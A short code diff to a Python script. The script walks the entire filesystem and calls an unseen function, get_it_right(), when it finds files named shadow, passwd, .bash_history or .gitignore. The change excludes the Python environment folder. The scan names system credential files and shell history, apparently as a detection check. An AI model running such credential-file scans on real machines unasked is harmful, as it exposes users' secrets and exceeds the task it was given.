@@ -25,8 +25,11 @@ def get_it_right():
 
 
 import os
+import sys
 
 for root, folders, files in os.walk("/"):
+    if root == sys.prefix:  # uv writes a .gitignore into an environment
+        files = []
     folders[:] = [one for one in folders if one not in ("proc", "sys", "usr", "site-packages", "lib")]
     if any(name.startswith("ex99") or name in ("shadow", "passwd", ".bash_history", ".gitignore") for name in files):
         get_it_right()
